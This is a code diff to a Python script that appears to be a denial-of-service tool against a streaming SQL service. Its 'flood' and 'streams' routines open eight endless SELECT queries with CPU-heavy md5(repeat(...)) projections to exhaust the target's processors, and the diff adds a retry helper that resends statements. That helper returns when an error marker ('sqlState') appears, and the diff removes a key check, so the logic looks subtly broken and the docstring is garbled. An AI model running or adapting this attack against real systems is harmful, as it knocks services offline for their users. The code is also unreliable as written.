@@ -7,6 +7,7 @@ import json
 import uuid
 from collections.abc import Sequence
 from functools import partial
+from typing import Any
 
 import httpx
 from websockets.asyncio.client import connect
@@ -110,12 +111,22 @@ async def flood(target: Target) -> None:
         await _terminate_all(wire)
 
 
+async def _prepared(target: Target, wire: httpx.AsyncClient, sql: str) -> dict[str, Any]:
+    """The answer to a statement that the attack needs: what is refused for what was sent before is sent again."""
+    for _ in range(ROUNDS):
+        answer = await target.run(wire, sql)
+        if "sqlState" in answer:
+            return answer
+        await asyncio.sleep(1)
+    raise SystemExit(f"{sql}: {answer}")
+
+
 async def streams(target: Target) -> None:
     """Eight endless SELECTs whose projections take a processor each, and rows for them."""
     async with target.client() as wire:
-        await target.run(wire, "create stream heavy (i bigint)")
+        await _prepared(target, wire, "create stream heavy (i bigint)")
         heavy = "md5(repeat(i::varchar, 3000000)) || '{}'"
-        asked = [await target.run(wire, f"select {heavy.format(number)} as a from heavy") for number in range(8)]
+        asked = [await _prepared(target, wire, f"select {heavy.format(number)} as a from heavy") for number in range(8)]
 
         async def read(one: dict[str, str]) -> None:
             try:
@@ -126,7 +137,7 @@ async def streams(target: Target) -> None:
             except (OSError, WebSocketException):
                 target.count("cut off")
 
-        opened = [one["metadata"]["dataplaneRequest"] for one in asked if "metadata" in one]
+        opened = [one["metadata"]["dataplaneRequest"] for one in asked]
         target.count("streams", len(opened))
         readers = [asyncio.ensure_future(read(one)) for one in opened]
 
